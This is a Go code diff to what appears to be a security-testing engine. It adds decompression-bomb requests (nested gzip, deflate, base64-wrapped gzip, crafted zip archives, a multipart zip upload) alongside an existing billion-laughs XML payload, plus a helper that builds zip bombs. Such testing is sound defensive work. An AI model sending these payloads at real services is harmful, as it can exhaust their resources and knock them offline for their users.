@@ -1,6 +1,7 @@
 package engine
 
 import (
+	"archive/zip"
 	"bytes"
 	"compress/flate"
 	"compress/gzip"
@@ -9,6 +10,7 @@ import (
 	"encoding/binary"
 	"encoding/hex"
 	"fmt"
+	"hash/crc32"
 	"io"
 	"math/rand/v2"
 	"net/url"
@@ -490,6 +492,14 @@ func lastly() []bypass {
 	bomb := strings.Repeat("0", 64<<20)
 	all = append(all, bypass{family: "bomb", name: "gzip", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "gzip"}, body: zipped(bomb)}})
 	all = append(all, bypass{family: "bomb", name: "gzip not declared", alone: true, request: post("application/octet-stream", zipped(bomb))})
+	all = append(all, bypass{family: "bomb", name: "deflate", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "deflate"}, body: deflated(bomb, true)}})
+	all = append(all, bypass{family: "bomb", name: "gzip of gzip", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "gzip, gzip"}, body: zipped(zipped(bomb))}})
+	all = append(all, bypass{family: "bomb", name: "gzip in base64", alone: true, request: post("application/json", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(zipped(bomb[:2<<20])))+`"}`)})
+	all = append(all, bypass{family: "bomb", name: "gzip in base64, long", alone: true, request: post("application/json", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(zipped(bomb)))+`"}`)})
+	all = append(all, bypass{family: "bomb", name: "gzip behind text", alone: true, request: post("application/octet-stream", zipped("Some words that hardly repeat, 0123456789. "+bomb))})
+	all = append(all, bypass{family: "bomb", name: "zip", alone: true, request: post("application/zip", zipBomb(bomb, false))})
+	all = append(all, bypass{family: "bomb", name: "zip, size behind", alone: true, request: post("application/zip", zipBomb(bomb, true))})
+	all = append(all, bypass{family: "bomb", name: "zip in multipart", alone: true, request: fileUpload("a.zip", "application/zip", zipBomb(bomb, false))})
 	laughs := `<!DOCTYPE r [<!ENTITY a0 "lol">`
 	for i := range 9 {
 		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
@@ -627,6 +637,25 @@ func zipped(s string) string {
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
 	io.WriteString(z, s)
+	z.Close()
+	return b.String()
+}
+
+// zipBomb returns an archive of one file, which says how long it is in front of it
+// or behind.
+func zipBomb(s string, behind bool) string {
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	h := &zip.FileHeader{Name: "a.txt", Method: zip.Deflate}
+	if behind {
+		w, _ := z.CreateHeader(h)
+		io.WriteString(w, s)
+	} else {
+		raw := deflated(s, false)
+		h.CRC32, h.CompressedSize64, h.UncompressedSize64 = crc32.ChecksumIEEE([]byte(s)), uint64(len(raw)), uint64(len(s))
+		w, _ := z.CreateRaw(h)
+		io.WriteString(w, raw)
+	}
 	z.Close()
 	return b.String()
 }
